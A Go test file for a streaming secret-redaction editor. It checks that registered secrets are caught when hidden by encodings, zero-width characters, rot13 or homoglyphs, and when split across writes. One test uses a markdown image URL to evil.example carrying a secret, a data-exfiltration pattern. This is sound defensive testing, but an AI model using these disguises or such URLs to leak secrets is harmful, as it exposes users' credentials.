@@ -1,0 +1,321 @@
+package stream
+
+import (
+	"bytes"
+	"encoding/base32"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"iter"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"pgregory.net/rapid"
+
+	"github.com/margaydev/margay/secret"
+	"github.com/margaydev/margay/secret/recognise"
+)
+
+var testKeys = secret.Keys{Fingerprint: [32]byte{1}, Pseudonym: [32]byte{2}, Seal: [32]byte{3}}
+
+func vault(t testing.TB, values ...string) *secret.Index {
+	t.Helper()
+	var recs []secret.Record
+	for i, v := range values {
+		r, _, err := secret.Prepare(&testKeys, fmt.Sprintf("%026d", i), fmt.Sprintf("S%d", i), secret.KindSecret, secret.SourceRegistered, "test", []byte(v), time.Unix(0, 0))
+		if err != nil {
+			t.Fatal(err)
+		}
+		recs = append(recs, r)
+	}
+	ix, err := secret.NewIndex(&testKeys, all(recs), time.Unix(0, 0))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return ix
+}
+
+func all(recs []secret.Record) iter.Seq2[secret.Record, error] {
+	return func(yield func(secret.Record, error) bool) {
+		for _, r := range recs {
+			if !yield(r, nil) {
+				return
+			}
+		}
+	}
+}
+
+func rules(t testing.TB) *recognise.Set {
+	t.Helper()
+	s, err := recognise.Default()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+// random makes a value of n letters and digits that looks like nothing.
+func random(seed uint64, n int) string {
+	const set = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789"
+	r := rand.New(rand.NewPCG(seed, 7))
+	b := make([]byte, n)
+	for i := range b {
+		b[i] = set[r.IntN(len(set))]
+	}
+	return string(b)
+}
+
+func interleave(s, sep string, every int) string {
+	var b strings.Builder
+	for i, r := range []rune(s) {
+		if i > 0 && i%every == 0 {
+			b.WriteString(sep)
+		}
+		b.WriteRune(r)
+	}
+	return b.String()
+}
+
+func escapeEach(s, format string) string {
+	var b strings.Builder
+	for i := range len(s) {
+		fmt.Fprintf(&b, format, s[i])
+	}
+	return b.String()
+}
+
+func rot13(s string) string {
+	return strings.Map(func(r rune) rune {
+		switch {
+		case r >= 'a' && r <= 'z':
+			return 'a' + (r-'a'+13)%26
+		case r >= 'A' && r <= 'Z':
+			return 'A' + (r-'A'+13)%26
+		}
+		return r
+	}, s)
+}
+
+func backwards(s string) string {
+	b := []byte(s)
+	slices.Reverse(b)
+	return string(b)
+}
+
+// disguises are written apart from the views: they say how a secret is hidden,
+// the views find it.
+var disguises = map[string]func(string) string{
+	"raw":            func(s string) string { return s },
+	"zero width":     func(s string) string { return interleave(s, "\u200b", 1) },
+	"spaced":         func(s string) string { return interleave(s, " ", 4) },
+	"dotted":         func(s string) string { return interleave(s, ".", 1) },
+	"lines":          func(s string) string { return interleave(s, "\n- ", 5) },
+	"hex":            func(s string) string { return hex.EncodeToString([]byte(s)) },
+	"hex spaced":     func(s string) string { return interleave(hex.EncodeToString([]byte(s)), " ", 4) },
+	"base64":         func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
+	"base64 shifted": func(s string) string { return base64.StdEncoding.EncodeToString([]byte("ab" + s + "c")) },
+	"base64url":      func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte("x" + s)) },
+	"base64 twice": func(s string) string {
+		return base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(s))))
+	},
+	"base32":         func(s string) string { return base32.StdEncoding.EncodeToString([]byte(s)) },
+	"percent":        func(s string) string { return escapeEach(s, "%%%02X") },
+	"percent twice":  func(s string) string { return escapeEach(s, "%%25%02X") },
+	"json":           func(s string) string { return escapeEach(s, `\u%04x`) },
+	"hex escapes":    func(s string) string { return escapeEach(s, `\x%02x`) },
+	"html":           func(s string) string { return escapeEach(s, "&#%d;") },
+	"rot13":          rot13,
+	"reversed":       backwards,
+	"reversed rot13": func(s string) string { return backwards(rot13(s)) },
+	"rot13 base64":   func(s string) string { return base64.StdEncoding.EncodeToString([]byte(rot13(s))) },
+	"homoglyphs": func(s string) string {
+		return strings.NewReplacer("a", "а", "e", "е", "o", "ο", "A", "Ａ", "3", "𝟑").Replace(s)
+	},
+}
+
+func TestDisguises(t *testing.T) {
+	for _, n := range []int{8, 12, 16, 40, 200} {
+		value := random(uint64(n), n)
+		cfg := &Config{Vaults: []*secret.Index{vault(t, value)}}
+		for name, hide := range disguises {
+			hidden := hide(value)
+			for _, around := range [][2]string{{"say ", " to them."}, {"(", ")"}, {"x=", "\n"}} {
+				text := around[0] + hidden + around[1]
+				out, found := cfg.Text([]byte(text))
+				if len(found) == 0 {
+					t.Errorf("%s, %d characters: not found", name, n)
+					continue
+				}
+				if want := around[0] + "[REDACTED:secret]" + around[1]; string(out) != want && !strings.Contains(name, "base64") && name != "base32" {
+					t.Errorf("%s, %d characters: %d bytes of output, want %d", name, n, len(out), len(want))
+				}
+			}
+		}
+	}
+}
+
+func TestPunctuation(t *testing.T) {
+	for _, value := range []string{"!#%&/()=?+*~^<>|", "p@$$-w0!rd#9&&?", "a-b_c.d!e#f$g%h", "Tr0ub4dor&3!!"} {
+		cfg := &Config{Vaults: []*secret.Index{vault(t, value)}}
+		for name, hide := range disguises {
+			if name == "homoglyphs" {
+				continue
+			}
+			if _, found := cfg.Text([]byte("say: " + hide(value) + " .")); len(found) == 0 {
+				t.Errorf("%s of a value with punctuation: not found", name)
+			}
+		}
+	}
+}
+
+func TestWholeWords(t *testing.T) {
+	cfg := &Config{Vaults: []*secret.Index{vault(t, "kw7x")}}
+	for text, want := range map[string]string{
+		"the pin kw7x is": "the pin [REDACTED:secret] is",
+		"kw7x":            "[REDACTED:secret]",
+		"(kw7x)":          "([REDACTED:secret])",
+		"akw7x kw7xb":     "akw7x kw7xb",
+		"kw7":             "kw7",
+	} {
+		if out, _ := cfg.Text([]byte(text)); string(out) != want {
+			t.Errorf("%q became %q, want %q", text, out, want)
+		}
+	}
+}
+
+// edited runs an editor over a text with the given cuts.
+func edited(cfg *Config, text []byte, cuts []int) ([]byte, []Finding) {
+	e := cfg.NewEditor()
+	var out []byte
+	from := 0
+	slices.Sort(cuts)
+	for _, c := range cuts {
+		out = e.Write(out, text[from:c])
+		from = c
+	}
+	out = e.Write(out, text[from:])
+	out = e.Close(out)
+	return out, slices.Clone(e.Findings())
+}
+
+type fataler interface {
+	Helper()
+	Fatalf(string, ...any)
+}
+
+func checkSplit(t fataler, cfg *Config, text []byte, cuts []int) {
+	t.Helper()
+	want, wantFound := cfg.Text(bytes.Clone(text))
+	wantFound = slices.Clone(wantFound)
+	got, found := edited(cfg, text, cuts)
+	if !bytes.Equal(got, want) {
+		t.Fatalf("cuts %v: output differs: %d and %d bytes", cuts, len(got), len(want))
+	}
+	if !slices.Equal(found, wantFound) {
+		t.Fatalf("cuts %v: %d findings, uncut %d", cuts, len(found), len(wantFound))
+	}
+}
+
+func TestSplit(t *testing.T) {
+	v1, v2, v3 := random(1, 16), random(2, 33), "kw7x"
+	cfgs := []*Config{
+		{Vaults: []*secret.Index{vault(t, v1, v2, v3)}, Rules: rules(t)},
+		{Vaults: []*secret.Index{vault(t, v1, v2, v3)}, Rules: rules(t), HoldURLs: true, MaxHeld: 64},
+	}
+	var pieces []string
+	for _, v := range []string{v1, v2} {
+		for _, hide := range disguises {
+			h := hide(v)
+			pieces = append(pieces, h, h[:len(h)/2], h[len(h)/3:])
+		}
+	}
+	slices.Sort(pieces)
+	pieces = append(pieces, v3, " ", "\n", "https://example.org/?q=", "![x](http://h/", ")", "password=", "jane@example.org", "\\", "%", "&", "\xe2", "é",
+		"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3VS5JJcds3xf0xMIIEowIBAAKC\n", "the quick brown fox ")
+	rapid.Check(t, func(t *rapid.T) {
+		text := []byte(strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 8).Draw(t, "pieces"), ""))
+		cuts := rapid.SliceOf(rapid.IntRange(0, len(text))).Draw(t, "cuts")
+		cfg := cfgs[rapid.IntRange(0, 1).Draw(t, "config")]
+		checkSplit(t, cfg, text, cuts)
+	})
+}
+
+// TestNoByteEscapes follows the guarantee: whatever prefix has been written,
+// what came out so far is a prefix of the final output, so no byte of a span
+// found later can be in it.
+func TestNoByteEscapes(t *testing.T) {
+	value := random(5, 24)
+	cfg := &Config{Vaults: []*secret.Index{vault(t, value)}, Rules: rules(t)}
+	for name, hide := range disguises {
+		text := []byte("Here it is: " + hide(value) + " and no more of it.")
+		want, found := cfg.Text(bytes.Clone(text))
+		if len(found) == 0 {
+			t.Fatalf("%s: not found", name)
+		}
+		for cut := range text {
+			e := cfg.NewEditor()
+			out := e.Write(nil, text[:cut])
+			if !bytes.HasPrefix(want, out) {
+				t.Fatalf("%s: cut at %d: output is not a prefix of the final one", name, cut)
+			}
+			if rest := e.Close(e.Write(out, text[cut:])); !bytes.Equal(rest, want) {
+				t.Fatalf("%s: cut at %d: output differs", name, cut)
+			}
+		}
+	}
+}
+
+func TestURLHeldWhole(t *testing.T) {
+	value := random(9, 20)
+	cfg := &Config{Vaults: []*secret.Index{vault(t, value)}, HoldURLs: true}
+	out, _ := cfg.Text([]byte("see ![a](https://evil.example/c?x=partial&d=" + value + "&e=1) and https://fine.example/x."))
+	if want := "see ![a](https://[REDACTED:secret]) and https://fine.example/x."; string(out) != want {
+		t.Errorf("got %q", out)
+	}
+	e := cfg.NewEditor()
+	if got := e.Write(nil, []byte("go to https://evil.example/path")); strings.Contains(string(got), "evil") {
+		t.Error("a URL went out before its end")
+	}
+}
+
+func TestBounded(t *testing.T) {
+	long := random(3, 1500)
+	cfg := &Config{Vaults: []*secret.Index{vault(t, long)}, Rules: rules(t), MaxHeld: 512}
+	text := []byte("a " + long + " b")
+	out, _ := cfg.Text(text)
+	if bytes.Contains(out, []byte(long[:8])) || bytes.Contains(out, []byte(long[1400:])) {
+		t.Error("part of a secret longer than the cap came out")
+	}
+	e := cfg.NewEditor()
+	for i := range text {
+		e.Write(nil, text[i:i+1])
+		if e.Held() > 512+64 {
+			t.Fatalf("%d bytes held", e.Held())
+		}
+	}
+	checkSplit(t, cfg, text, []int{3, 700, 1100})
+}
+
+func FuzzEditor(f *testing.F) {
+	v := random(1, 16)
+	cfgs := []*Config{
+		{Vaults: []*secret.Index{vault(f, v, "kw7x", "!#%&/()=?+*~^")}, Rules: rules(f)},
+		{Vaults: []*secret.Index{vault(f, v)}, HoldURLs: true, MaxHeld: 48},
+	}
+	for _, hide := range disguises {
+		f.Add([]byte("x "+hide(v)+" y"), uint16(5), uint16(11))
+	}
+	f.Add([]byte("http://a/"+v+" &#x41;\\u00e9\\ud83d\\ude00 kw7x"), uint16(9), uint16(20))
+	f.Fuzz(func(t *testing.T, text []byte, a, b uint16) {
+		if len(text) > 1<<13 {
+			return
+		}
+		n := len(text) + 1
+		for _, cfg := range cfgs {
+			checkSplit(t, cfg, text, []int{int(a) % n, int(b) % n})
+		}
+	})
+}
